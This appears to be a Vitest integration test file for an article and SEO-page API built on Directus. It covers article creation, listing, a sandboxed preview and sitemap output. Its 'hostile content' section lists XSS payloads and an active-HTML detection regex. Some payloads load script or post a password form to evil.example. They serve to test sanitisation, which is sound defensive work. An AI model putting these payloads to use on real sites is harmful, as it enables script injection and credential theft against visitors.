import { XMLParser } from 'fast-xml-parser';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import {
	adminSdk,
	type Article,
	type ArticleSummary,
	createUser,
	createWebsite,
	ended,
	importRows,
	type Page,
	readAll,
	type User,
	type Website,
} from '../support/client.js';
import type { RunningServer } from '../support/directus.js';
import { checkInvariants } from '../support/invariants.js';
import { towns } from '../support/rows.js';
import { SECRET_OF_TESTS } from '../support/template.js';
import { createCursors } from '../../extensions/pseo-automation/src/platform/http/index.js';
import { sharedDirectus } from '../support/shared.js';
import { updateItem } from '@directus/sdk';

let server: RunningServer;
beforeAll(async () => {
	server = await sharedDirectus();
});
afterAll(() => checkInvariants(server.db));

async function start(): Promise<{ user: User; site: Website }> {
	const user = await createUser(server);
	return { user, site: await createWebsite(user, { website_url: 'https://example.com/shop/' }) };
}

async function add(user: User, pseo_id: number, fields: Record<string, unknown> = {}): Promise<Article> {
	const answer = await user.api.post<Article>('/articles', {
		pseo_id,
		title: 'Caring for leather',
		content_markdown: '## Oil\n\nTwice a year.',
		...fields,
	});
	expect(answer.status, answer.text).toBe(201);
	return answer.body.data;
}

/** Whatever of this a browser would run, load or follow to a place that an article may not name. */
const ACTIVE =
	/<script|<style|<iframe|<object|<embed|<svg|<math|<form|<input|<base|<link|<meta|<template|\son\w+\s*=|javascript:|vbscript:|data:text|srcdoc|style\s*=/i;

const HOSTILE = [
	'<script>alert(1)</script>',
	'<ScRiPt src=//evil.example/x.js></sCrIpT>',
	'<img src=x onerror=alert(1)>',
	'<img src="javascript:alert(1)">',
	'<svg/onload=alert(1)><animate onbegin=alert(1)>',
	'<a href="javascript:alert(1)">click</a>',
	'<a href=" &#106;avascript:alert(1)">click</a>',
	'<a href="data:text/html,<script>alert(1)</script>">click</a>',
	'[click](javascript:alert(1))',
	'[click](vbscript:msgbox(1))',
	'![x](data:text/html;base64,PHNjcmlwdD4=)',
	'<iframe src="https://evil.example" srcdoc="<script>alert(1)</script>"></iframe>',
	'<math><mtext></mtext><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
	'<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
	'<form action="https://evil.example"><input name=password></form>',
	'<p style="background:url(https://evil.example/x)">x</p>',
	'<base href="https://evil.example/">',
	'<meta http-equiv="refresh" content="0;url=https://evil.example">',
	'<template><script>alert(1)</script></template>',
	'```html\n<script>alert(1)</script>\n```\n<details open ontoggle=alert(1)>x</details>',
	'<<script>script>alert(1)<</script>/script>',
	'</article></main><script>alert(1)</script>',
];

describe('writing, reading and changing articles', () => {
	it('adds an article with its page, counts it, and renders its markdown', async () => {
		const { user, site } = await start();
		const article = await add(user, site.id, {
			meta_description: 'How to.',
			tags: ['care'],
			faqs: [{ question: 'How often?', answer: 'Twice a year.' }],
		});
		expect(article).toMatchObject({
			pseo_id: site.id,
			route: '/caring-for-leather',
			slug: 'caring-for-leather',
			status: 'draft',
			generator: 'manual',
			language_code: 'en-US',
			meta_description: 'How to.',
			tags: ['care'],
			faqs: [{ question: 'How often?', answer: 'Twice a year.' }],
			word_count: 4,
			generation: null,
		});
		expect(article.content_html).toMatch(/<h2[^>]*>Oil<\/h2>\s*<p>Twice a year\.<\/p>/);
		expect((await user.api.get<Article>(`/articles/${article.id}`)).body.data).toEqual(article);
		const [page] = (await user.api.get<Page[]>(`/pseo/${site.id}/pages`)).body.data;
		expect(page).toMatchObject({
			id: article.page,
			route: '/caring-for-leather',
			source: 'manual',
			status: 'written',
		});
		expect((await user.api.get<Website>(`/pseo/${site.id}`)).body.data.post_counts_total).toBe(1);
	});

	it('refuses a second article at the same route with 409', async () => {
		const { user, site } = await start();
		await add(user, site.id, { route: '/guides/care' });
		const again = await user.api.post('/articles', {
			pseo_id: site.id,
			route: '/guides/care',
			title: 'Again',
			content_markdown: 'x',
		});
		expect(again).toMatchObject({ status: 409, body: { code: 'route_taken', details: { route: '/guides/care' } } });
		expect((await user.api.get<Website>(`/pseo/${site.id}`)).body.data.post_counts_total).toBe(1);
	});

	it('keeps an article that a person wrote out of the next generation', async () => {
		const { user, site } = await start();
		const rows = towns(6);
		await importRows(user, site.id, rows);
		const [first] = (await user.api.get<Page[]>(`/pseo/${site.id}/pages?limit=1`)).body.data;
		const mine = await add(user, site.id, { route: first?.route, content_markdown: 'My own words.' });
		const { body } = await user.api.post('/trigger/bulk-generation', { pseo_id: site.id, post_count: 5 });
		expect((await ended(user, body.generation_id)).created_count).toBe(5);
		expect((await user.api.get<Article>(`/articles/${mine.id}`)).body.data).toMatchObject({
			content_markdown: 'My own words.',
			generator: 'manual',
		});
	});

	it('changes what is given, renders changed markdown anew, and leaves the rest', async () => {
		const { user, site } = await start();
		const article = await add(user, site.id, { tags: ['a'] });
		const { status, body } = await user.api.patch<Article>(`/articles/${article.id}`, {
			content_markdown: '# Wax\n\nOnce.',
		});
		expect(status).toBe(200);
		expect(body).toMatchObject({
			message: 'Article updated',
			data: { id: article.id, title: article.title, tags: ['a'], word_count: 2 },
		});
		expect(body.data.content_html).toMatch(/<h2[^>]*>Wax<\/h2>/);
		expect((await user.api.patch(`/articles/${article.id}`, {})).status).toBe(400);
		expect((await user.api.patch(`/articles/${article.id}`, { status: 'gone' })).status).toBe(400);
		expect((await user.api.patch(`/articles/${article.id}`, { pseo_id: 1 })).status).toBe(400);
	});

	it('deletes an article and plans its page again', async () => {
		const { user, site } = await start();
		const article = await add(user, site.id);
		expect(await user.api.del(`/articles/${article.id}`)).toMatchObject({
			status: 200,
			body: { data: { id: article.id } },
		});
		expect((await user.api.get(`/articles/${article.id}`)).status).toBe(404);
		expect((await user.api.del(`/articles/${article.id}`)).status).toBe(404);
		const [page] = (await user.api.get<Page[]>(`/pseo/${site.id}/pages`)).body.data;
		expect(page?.status).toBe('planned');
		expect((await user.api.get<Website>(`/pseo/${site.id}`)).body.data.post_counts_total).toBe(0);
	});

	it('lists without content; sorts, filters, searches and pages', async () => {
		const { user, site } = await start();
		const other = await createWebsite(user);
		const titles = ['Zinc', 'Apple', 'Mango 100%', 'Berry', 'Apple'];
		for (const [index, title] of titles.entries())
			await add(user, site.id, { title, route: `/r${index}`, content_markdown: 'word '.repeat(index + 1) });
		await add(user, other.id, { title: 'Elsewhere' });
		const listed = await user.api.get<ArticleSummary[]>(`/articles?pseo_id=${site.id}`);
		expect(listed.body.data).toHaveLength(5);
		for (const article of listed.body.data) expect(article).not.toHaveProperty('content_html');
		for (const [sort, expected] of [
			['title:asc', ['Apple', 'Apple', 'Berry', 'Mango 100%', 'Zinc']],
			['title:desc', ['Zinc', 'Mango 100%', 'Berry', 'Apple', 'Apple']],
			['word_count:desc', ['Apple', 'Berry', 'Mango 100%', 'Apple', 'Zinc']],
			['id:asc', titles],
		] as const) {
			const seen = await readAll<ArticleSummary>(user.api, `/articles?pseo_id=${site.id}&limit=2&sort=${sort}`);
			expect(
				seen.map((article) => article.title),
				sort,
			).toEqual(expected);
		}
		expect((await user.api.get<ArticleSummary[]>('/articles?q=APP')).body.data).toHaveLength(2);
		expect((await user.api.get<ArticleSummary[]>('/articles?q=100%25')).body.data).toHaveLength(1);
		expect((await user.api.get<ArticleSummary[]>('/articles?q=%25')).body.data).toHaveLength(1);
		expect((await user.api.get<ArticleSummary[]>('/articles?q=_')).body.data).toEqual([]);
		expect((await user.api.get('/articles?sort=content_html:asc')).status).toBe(400);
		expect((await user.api.get('/articles?pseo=1')).status).toBe(400);
	});
});

describe('hostile content', () => {
	it.each(HOSTILE)('makes %j harmless, in the stored HTML and in the preview', async (attack) => {
		const { user, site } = await start();
		const article = await add(user, site.id, { content_markdown: `Before.\n\n${attack}\n\nAfter.` });
		const stored = (article.content_html ?? '').replace(/<code[\s\S]*?<\/code>/g, '');
		// Escaped text is harmless: only real tags and attributes count.
		for (const tag of stored.match(/<[^>]*>/g) ?? []) expect(tag).not.toMatch(ACTIVE);
		expect(stored).not.toMatch(/<script/i);
		const preview = await user.api.get(`/articles/${article.id}/preview`);
		const body = preview.text.replace(/^[\s\S]*<body>/, '');
		for (const tag of body.match(/<[^>]*>/g) ?? []) expect(tag).not.toMatch(ACTIVE);
	});

	it('escapes titles, descriptions and questions in the preview', async () => {
		const { user, site } = await start();
		const attack = '</title><script>alert(1)</script>"\'';
		const article = await add(user, site.id, {
			title: attack,
			meta_description: attack,
			faqs: [{ question: attack, answer: attack }],
		});
		const { text } = await user.api.get(`/articles/${article.id}/preview`);
		expect(text).not.toContain('<script>alert');
		expect(article.title).toBe(attack);
	});

	it('cleans what an administrator saves through Directus itself', async () => {
		const { user, site } = await start();
		const article = await add(user, site.id);
		await adminSdk(server).request(
			updateItem(
				'pseo_articles' as never,
				article.id as never,
				{ content_html: '<p onclick="x()">Hello</p><script>alert(1)</script>' } as never,
			),
		);
		const { data } = (await user.api.get<Article>(`/articles/${article.id}`)).body;
		expect(data.content_html).toBe('<p>Hello</p>');
	});
});

describe('the preview', () => {
	it('is a complete HTML page under a sandbox, with nothing to load', async () => {
		const { user, site } = await start();
		const article = await add(user, site.id, { language_code: 'de-AT', meta_description: 'Pflege.' });
		const { status, headers, text } = await user.api.get(`/articles/${article.id}/preview`);
		expect(status).toBe(200);
		expect(headers.get('content-type')).toBe('text/html; charset=utf-8');
		expect(headers.get('content-security-policy')).toMatch(/(^|; ?)sandbox(;|$)/);
		expect(headers.get('content-security-policy')).toContain("default-src 'none'");
		expect(headers.get('content-security-policy')).not.toMatch(/script-src|allow-scripts/);
		expect(headers.get('x-content-type-options')).toBe('nosniff');
		expect(text).toMatch(/^<!doctype html>\n<html lang="de-AT"/);
		expect(text.trimEnd()).toMatch(/<\/html>$/);
		expect(text.match(/<h1>/g)).toHaveLength(1);
		expect(text).toContain('<title>Caring for leather</title>');
		expect(text).not.toMatch(/<link rel="stylesheet"|<img|<script(?! type="application\/ld\+json")/);
	});

	it('opens by a link for ten minutes, without a token, and by no other', async () => {
		const { user, site } = await start();
		const article = await add(user, site.id, { content_markdown: 'Read ![a boot](https://images.example/x.png)' });
		const { body } = await user.api.get<{ url: string; expires_at: string }>(
			`/articles/${article.id}/preview-link`,
		);
		const { url, expires_at } = body.data;
		expect(Date.parse(expires_at) - Date.now()).toBeLessThanOrEqual(600_000);
		const place = `${server.url}/pseo-endpoints${url.slice(url.indexOf('/preview?'))}`;
		const opened = await fetch(place);
		expect(opened.status).toBe(200);
		expect(opened.headers.get('content-security-policy')).toContain('img-src data:;');
		const text = await opened.text();
		expect(text).toContain('Load images from other hosts');
		expect((await fetch(`${place}&images=true`)).headers.get('content-security-policy')).toContain(
			'img-src https: data:',
		);
		const by = async (link: string) => (await fetch(`${server.url}/pseo-endpoints/preview?link=${link}`)).status;
		expect(await by(createCursors(SECRET_OF_TESTS).write('preview', [article.id, Date.now() - 1]))).toBe(403);
		const forged = createCursors('another').write('preview', [article.id, 9e15]);
		for (const link of ['x', `x${url.split('=')[1]}`, forged]) expect(await by(link), link).toBe(400);
		const stranger = await createUser(server);
		expect((await stranger.api.get(`/articles/${article.id}/preview-link`)).status).toBe(403);
	});

	it('shows a generated article with its facts', async () => {
		const { user, site } = await start();
		await importRows(user, site.id, towns(10));
		const { body } = await user.api.post('/trigger/on-demand-generation', { pseo_id: site.id, post_count: 1 });
		await ended(user, body.generation_id);
		const [article] = (await user.api.get<ArticleSummary[]>(`/articles?generation=${body.generation_id}`)).body
			.data;
		const { text } = await user.api.get(`/articles/${article?.id}/preview`);
		expect(text).toContain('<table>');
		expect(text).toContain('application/ld+json');
	});
});

describe('sitemap.xml', () => {
	const parse = (xml: string) =>
		new XMLParser({ isArray: (name) => name === 'url' }).parse(xml) as {
			urlset: { url?: { loc: string; lastmod: string }[] } | '';
		};

	it('holds what is published, and nothing else', async () => {
		const { user, site } = await start();
		const published = await add(user, site.id, { title: 'Bags & belts', route: '/bags&belts' });
		await add(user, site.id, { title: 'Draft', route: '/draft' });
		const withdrawn = await add(user, site.id, { title: 'Withdrawn', route: '/withdrawn' });
		expect(parse((await user.api.get(`/pseo/${site.id}/sitemap.xml`)).text).urlset).toBe('');

		const { body } = await user.api.patch<Article>(`/articles/${published.id}`, { status: 'published' });
		expect(body.data).toMatchObject({
			status: 'published',
			published_url: 'https://example.com/shop/bags&belts',
			published_at: expect.stringMatching(/^\d{4}-/) as unknown,
		});
		await user.api.patch(`/articles/${withdrawn.id}`, { status: 'published' });
		const gone = await user.api.patch<Article>(`/articles/${withdrawn.id}`, { status: 'archived' });
		expect(gone.body.data).toMatchObject({ published_url: null, published_at: null });

		const { status, headers, text } = await user.api.get(`/pseo/${site.id}/sitemap.xml`);
		expect(status).toBe(200);
		expect(headers.get('content-type')).toMatch(/^application\/xml/);
		expect(text).toMatch(/^<\?xml version="1.0" encoding="UTF-8"\?>/);
		expect(text).toContain('http://www.sitemaps.org/schemas/sitemap/0.9');
		const { urlset } = parse(text);
		expect(urlset).toMatchObject({
			url: [
				{
					loc: 'https://example.com/shop/bags&belts',
					lastmod: expect.stringMatching(/^\d{4}-\d\d-\d\d/) as unknown,
				},
			],
		});
	});

	it('answers 404 for a part that does not exist', async () => {
		const { user, site } = await start();
		expect((await user.api.get(`/pseo/${site.id}/sitemap.xml?part=1`)).status).toBe(200);
		expect((await user.api.get(`/pseo/${site.id}/sitemap.xml?part=2`)).status).toBe(404);
		expect((await user.api.get(`/pseo/${site.id}/sitemap.xml?part=0`)).status).toBe(400);
	});
});
